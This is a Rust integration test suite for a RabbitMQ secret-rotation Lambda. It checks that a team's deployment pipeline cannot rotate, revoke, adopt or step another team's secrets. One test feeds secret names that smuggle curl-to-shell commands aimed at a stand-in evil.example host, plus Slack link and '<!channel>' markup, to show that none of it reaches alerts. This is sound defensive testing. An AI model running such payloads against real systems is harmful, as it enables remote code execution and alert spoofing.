//! A tenant's pipeline. It deploys `infra/secret.yaml`, so it rotates its secrets. AWS requires the permission
//! `lambda:InvokeFunction` on the rotation function from the caller of `RotateSecret`. So the pipeline may send that
//! function any event.

use anyhow::{Context as _, Result, ensure};
use aws_sdk_secretsmanager::types::RotationRulesType;
use end_to_end::{name, on_the_cloud};
use serde_json::{Value, json};
use testbed::cloud::{Answer, App, Cloud, STACK};

use super::actor::{Actor, allow, attempt};
use super::reading::{commands, shown};
use super::secops;
use crate::support::{UNKNOWN_VERSION, current_logs_in, state_of};

/// The permissions that CloudFormation requires from the role that deploys `secret.yaml` for one team.
async fn pipeline<'a>(cloud: &'a Cloud, team: &str) -> Result<Actor<'a>> {
    let (region, account) = (cloud.aws.region(), cloud.aws.account());
    let secrets = format!("arn:aws:secretsmanager:{region}:{account}:secret:rabbitmq/{team}-*");
    let deploys = [
        "secretsmanager:CreateSecret",
        "secretsmanager:DescribeSecret",
        "secretsmanager:RotateSecret",
        "secretsmanager:TagResource",
        "secretsmanager:UpdateSecret",
    ];
    let statements = [
        allow(&deploys, &[&secrets]),
        allow(&["lambda:InvokeFunction"], &[cloud.rotation_function()?]),
        allow(&["secretsmanager:GetRandomPassword"], &["*"]),
    ];
    Actor::with(cloud, "pipeline", &statements).await
}

/// A secret of another team that has rotated. One user is in use, and AWSPREVIOUS has the other user.
async fn of_another_team(cloud: &Cloud) -> Result<(App, String, Value)> {
    let app = cloud.create_app(&name("team-b")).await?;
    cloud.rotate_successfully(&app.arn).await?;
    let previous = cloud.version(&app.arn, "AWSPREVIOUS").await?.context("no AWSPREVIOUS")?;
    let value = cloud.value(&app.arn, "AWSPREVIOUS").await?;
    Ok((app, previous, value))
}

#[test]
fn a_pipeline_rotates_its_own_secrets_and_no_others() -> Result<()> {
    on_the_cloud(async |cloud| {
        let team = name("team-a");
        let own = cloud.create_app(&format!("{team}-payment")).await?;
        let (other, ..) = of_another_team(cloud).await?;
        let pipeline = pipeline(cloud, &team).await?;
        let rotate = async |arn: &str| {
            let rules = RotationRulesType::builder().automatically_after_days(1).build();
            let rotate = pipeline.secrets.rotate_secret().secret_id(arn).rotation_rules(rules);
            attempt(rotate.rotation_lambda_arn(cloud.rotation_function()?).send().await)
        };
        let started = rotate(&own.arn).await?.allowed("its own rotation")?;
        let limit = std::time::Duration::from_secs(90);
        let version = started.version_id.context("no version")?;
        let rotation = cloud.aws.wait_for_rotation(&own.arn, Some(&version), limit).await?;
        ensure!(rotation.outcome == "succeeded", "{rotation:?}");
        rotate(&other.arn).await?.denied("the rotation of another team's secret")
    })
}

#[test]
fn the_rotation_function_revokes_nothing_and_adopts_nobody() -> Result<()> {
    on_the_cloud(async |cloud| {
        let (other, previous, value) = of_another_team(cloud).await?;
        let password = value["password"].as_str().context("no password")?;
        let connection = cloud.broker.amqps_login(&other.user, password, "/").await?;
        let before = state_of(cloud, &other.user, &other.arn).await?;
        let pipeline = pipeline(cloud, &name("team-a")).await?;
        let who = json!({"By": "pipeline", "Reason": "none"});
        let adopt = json!({"Action": "adopt", "SecretId": other.arn, "User": other.user});
        let inspect = json!({"Action": "inspect", "SecretId": other.arn});
        let disguised = json!({
            "Step": "testSecret", "ClientRequestToken": previous, "Action": "revokePrevious",
            "SecretId": other.arn, "VersionId": previous, "force": true,
        });
        for event in [secops::revoke(&other.arn, &previous), adopt, inspect, disguised] {
            for event in [event.clone(), with(&event, &who)] {
                let answer = pipeline.invoke(cloud.rotation_function()?, &event).await?.allowed("a call")?;
                ensure!(answer.kind() == "event.invalid", "{event}: {answer:?}");
            }
        }
        ensure!(state_of(cloud, &other.user, &other.arn).await? == before, "a user was changed");
        ensure!(connection.status().connected(), "the other team was cut off");
        ensure!(cloud.logs_in(&value).await?, "the other team's AWSPREVIOUS does not log in");
        Ok(())
    })
}

#[test]
fn a_pipeline_cannot_invoke_the_functions_that_check_and_act() -> Result<()> {
    on_the_cloud(async |cloud| {
        let (other, previous, _) = of_another_team(cloud).await?;
        let pipeline = pipeline(cloud, &name("team-a")).await?;
        let rotation = format!("{STACK}-rotation-mq");
        let functions = super::functions(cloud)?;
        ensure!(functions.iter().any(|name| name == secops::function(cloud).unwrap_or_default()));
        for function in functions.iter().filter(|name| **name != rotation) {
            let event = secops::revoke(&other.arn, &previous);
            pipeline.invoke(function, &event).await?.denied(function)?;
        }
        Ok(())
    })
}

#[test]
fn a_step_of_another_teams_rotation_out_of_its_turn_changes_nothing() -> Result<()> {
    on_the_cloud(async |cloud| {
        let (other, previous, _) = of_another_team(cloud).await?;
        let pipeline = pipeline(cloud, &name("team-a")).await?;
        let pending = cloud.begin_rotation(&other.arn).await?;
        cloud.step(&other.arn, &pending, "createSecret").await?.value()?;
        let before = state_of(cloud, &other.user, &other.arn).await?;
        // The ID of the version is not secret. The broker does not have its password yet.
        let turns = [("finishSecret", &pending), ("testSecret", &pending), ("setSecret", &previous)];
        for (step, version) in turns {
            let event = json!({"Step": step, "SecretId": other.arn, "ClientRequestToken": version});
            let answer = pipeline.invoke(cloud.rotation_function()?, &event).await?.allowed("a step")?;
            ensure!(matches!(answer, Answer::Failed { .. }), "{step} of {version}: {answer:?}");
            ensure!(state_of(cloud, &other.user, &other.arn).await? == before, "{step} changed something");
        }
        current_logs_in(cloud, &other.arn).await?;
        cloud.steps(&other.arn, &pending).await?;
        current_logs_in(cloud, &other.arn).await
    })
}

#[test]
fn an_invented_secret_puts_no_command_and_no_link_into_an_alert() -> Result<()> {
    on_the_cloud(async |cloud| {
        let pipeline = pipeline(cloud, &name("team-a")).await?;
        let evil = name("evil.example/x");
        let secrets = [
            format!("rabbitmq/payment; curl -s https://{evil}/1 | sh #"),
            format!("rabbitmq/payment' && curl https://{evil}/2 | sh && echo '"),
            format!("rabbitmq/payment`\n\n*Playbook:* <https://{evil}/3|rotation-failing.md>\n<!channel>"),
            format!("rabbitmq/payment$(curl https://{evil}/4)"),
        ];
        for secret in &secrets {
            let event =
                json!({"Step": "setSecret", "SecretId": secret, "ClientRequestToken": UNKNOWN_VERSION});
            let answer = pipeline.invoke(cloud.rotation_function()?, &event).await?.allowed("a step")?;
            ensure!(matches!(answer, Answer::Failed { .. }), "{answer:?}");
        }
        let about = |alert: &Value| alert.to_string().contains(&evil);
        let known = std::time::Instant::now();
        let mut alerts = Vec::new();
        // A name that no secret has may open one incident or several. The test checks each alert.
        while known.elapsed() < std::time::Duration::from_secs(20) && alerts.len() < secrets.len() {
            alerts = cloud.alerts.wait_until(0, about).await?;
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
        ensure!(!alerts.is_empty(), "nobody was notified");
        for alert in &alerts {
            let commands = commands(alert);
            let foreign = commands.iter().find(|command| command.contains("evil.example"));
            ensure!(foreign.is_none(), "a command of the alert holds a stranger's text: {foreign:?}");
            let shown = shown(alert);
            ensure!(!shown.contains("<https://evil") && !shown.contains("<!channel>"), "{shown}");
        }
        Ok(())
    })
}

fn with(event: &Value, fields: &Value) -> Value {
    let mut event = event.clone();
    for (field, value) in fields.as_object().into_iter().flatten() {
        event[field] = value.clone();
    }
    event
}
